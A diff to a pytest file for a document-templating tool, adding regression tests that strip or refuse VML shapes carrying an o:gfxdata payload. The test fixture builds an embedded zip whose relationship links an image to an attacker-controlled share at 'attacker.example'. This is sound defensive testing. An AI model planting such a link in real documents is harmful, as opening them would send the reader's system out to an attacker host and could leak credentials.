@@ -3,12 +3,17 @@ printing case data as XML, a second package hidden in a VML shape, and ids pismo
 
 from __future__ import annotations
 
+import base64
+import io
+import zipfile
+
 import pytest
+from lxml import etree
 
 from pismo.documents import lint
-from pismo.render import engine, sandbox
+from pismo.render import engine, package, reach, sandbox
 from test_template_package import build, in_body, refused_everywhere
-from test_templates_round5 import counted  # noqa: F401 – the fixture
+from test_templates_round5 import W, counted, made  # noqa: F401 – counted: the fixture
 
 
 FOLDING = [
@@ -56,3 +61,36 @@ def test_a_filter_block_is_refused_everywhere(tmp_path):
     spec = in_body('<w:r><w:t xml:space="preserve">{% filter upper %}{{ jednostka.miejscowosc }}{% endfilter %}'
                    '</w:t></w:r>')
     refused_everywhere(tmp_path, spec, "znacznik „{% filter %}” jest niedozwolony")
+
+
+def _gfxdata_shape(prefix: str = "o") -> str:
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as archive:
+        archive.writestr("drs/_rels/shapexml.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
+                         '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
+                         'officeDocument/2006/relationships/image" Target="file://///attacker.example/share/x.png" '
+                         'TargetMode="External"/></Relationships>')
+    data = base64.b64encode(inner.getvalue()).decode()
+    return (f'<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:{prefix}="urn:schemas-microsoft-com:'
+            f'office:office" style="width:20pt;height:4pt" fillcolor="#4472c4" {prefix}:gfxdata="{data}"/></w:pict></w:r>')
+
+
+@pytest.mark.parametrize("prefix", ["o", "x"])
+def test_a_second_package_in_a_vml_shape_never_reaches_a_document(tmp_path, prefix):
+    # finding 4: o:gfxdata, a zip of DrawingML with a picture linked on a share, was copied into every document
+    body = made(tmp_path, in_body(_gfxdata_shape(prefix)))
+    assert "gfxdata" not in body and "<v:rect" in body
+
+
+def test_a_second_package_in_a_vml_shape_is_dropped_from_every_part():
+    header = f'<w:hdr {W}><w:p>{_gfxdata_shape()}</w:p></w:hdr>'.encode()
+    [(name, blob)] = package.without_gfxdata([("word/header1.xml", header)])
+    assert name == "word/header1.xml" and b"gfxdata" not in blob and b"v:rect" in blob
+    untouched = [("word/footer1.xml", f'<w:ftr {W}><w:p><w:r><w:t>gfxdata</w:t></w:r></w:p></w:ftr>'.encode())]
+    assert package.without_gfxdata(untouched) == untouched
+
+
+def test_a_second_package_written_while_filling_is_refused():
+    blob = f'<w:document {W}><w:body><w:p>{_gfxdata_shape()}</w:p></w:body></w:document>'.encode()
+    with pytest.raises(reach.Outside, match="gfxdata"):
+        reach.check_tree("word/document.xml", etree.fromstring(blob), blob=blob)
